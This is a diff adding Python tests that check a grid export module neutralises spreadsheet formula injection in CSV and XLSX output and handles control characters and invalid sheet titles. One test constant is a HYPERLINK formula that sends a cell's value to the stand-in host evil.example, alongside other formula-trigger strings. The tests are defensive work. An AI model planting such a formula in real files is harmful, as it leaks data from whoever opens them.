@@ -118,3 +118,85 @@ def test_export_sorts_like_the_grid(tmp_path: Path) -> None:
     export_result(result, [(columns[0], 0)], tmp_path / "x.csv")
     text = (tmp_path / "x.csv").read_text(encoding="utf-8-sig").splitlines()
     assert text == ["Name", "A", "b", "c", '""']  # csv quotes a lone empty field
+
+
+# ---- security and data loss (issue 17) ------------------------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A3,"x")'
+TRIGGERS = [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "\uff1d1+1"]
+SAFE_COLUMNS = [
+    Column("name", "Name"),
+    Column("fee", "Fee", kind="money"),
+    Column("age", "Age", kind="number"),
+    Column("born", "Born"),
+    Column("note", "Note"),
+]
+
+
+def safe_result() -> Any:
+    import datetime as dt
+    from decimal import Decimal
+
+    rows = [(text, Decimal("-12.50"), -3, dt.date(2020, 1, 31), "ok") for text in TRIGGERS]
+    rows.append(("Bella", Decimal("1234.5"), 4, None, "line one\x0bline two\x01\x1f end"))
+    return InMemorySource(SAFE_COLUMNS, rows).run(GridQuery())
+
+
+def export_all(tmp_path: Path, name: str) -> Path:
+    path = tmp_path / name
+    export_result(safe_result(), [(c, i) for i, c in enumerate(SAFE_COLUMNS)], path)
+    return path
+
+
+def test_csv_neutralises_formulas_but_keeps_numbers(tmp_path: Path) -> None:
+    path = export_all(tmp_path, "x.csv")
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        lines = list(csv.reader(handle))
+    names = [line[0] for line in lines[1:]]
+    assert names == [f"'{t}" for t in TRIGGERS] + ["Bella"]
+    # numbers and dates stay what they are: a negative fee is not text
+    assert {tuple(line[1:4]) for line in lines[1:-1]} == {("-12.50", "-3", "2020-01-31")}
+    assert lines[-1][1] == "1,234.50"
+
+
+def test_xlsx_writes_formula_text_as_typed_strings_and_keeps_types(tmp_path: Path) -> None:
+    import datetime as dt
+
+    path = export_all(tmp_path, "x.xlsx")
+    book = load_workbook(path)
+    sheet = book.active
+    cells = list(sheet.iter_rows(min_row=2))
+    for text, row in zip(TRIGGERS, cells, strict=False):
+        name = row[0]
+        assert name.data_type == "s", f"{text!r} was written as {name.data_type!r}"
+        assert name.value == text.replace("\r", "\n") or name.value == text
+        assert name.quotePrefix  # Excel keeps it text when the cell is edited
+        assert row[1].data_type == "n"
+        assert float(row[1].value) == -12.5
+        assert row[2].value == -3
+        assert row[3].value == dt.datetime(2020, 1, 31)  # a real date cell
+    book.close()
+
+
+def test_xlsx_survives_control_characters(tmp_path: Path) -> None:
+    path = export_all(tmp_path, "x.xlsx")
+    book = load_workbook(path, read_only=True)
+    values = [tuple(c.value for c in row) for row in book.active.iter_rows()]
+    book.close()
+    assert values[-1][0] == "Bella"
+    # a vertical tab from a word processor is its line break; other controls become U+FFFD
+    assert values[-1][4] == "line one\nline two\ufffd\ufffd end"
+
+
+def test_pdf_survives_control_characters_and_formula_text(tmp_path: Path) -> None:
+    path = export_all(tmp_path, "x.pdf")
+    assert path.read_bytes().startswith(b"%PDF")
+
+
+def test_sheet_title_with_characters_excel_refuses(tmp_path: Path) -> None:
+    result = InMemorySource([Column("n", "N")], [(1,)]).run(GridQuery())
+    path = tmp_path / "x.xlsx"
+    export_result(result, [(Column("n", "N"), 0)], path, title="Clients: A/B [2024]?")
+    book = load_workbook(path, read_only=True)
+    assert book.sheetnames == ["Clients A B 2024"]
+    book.close()
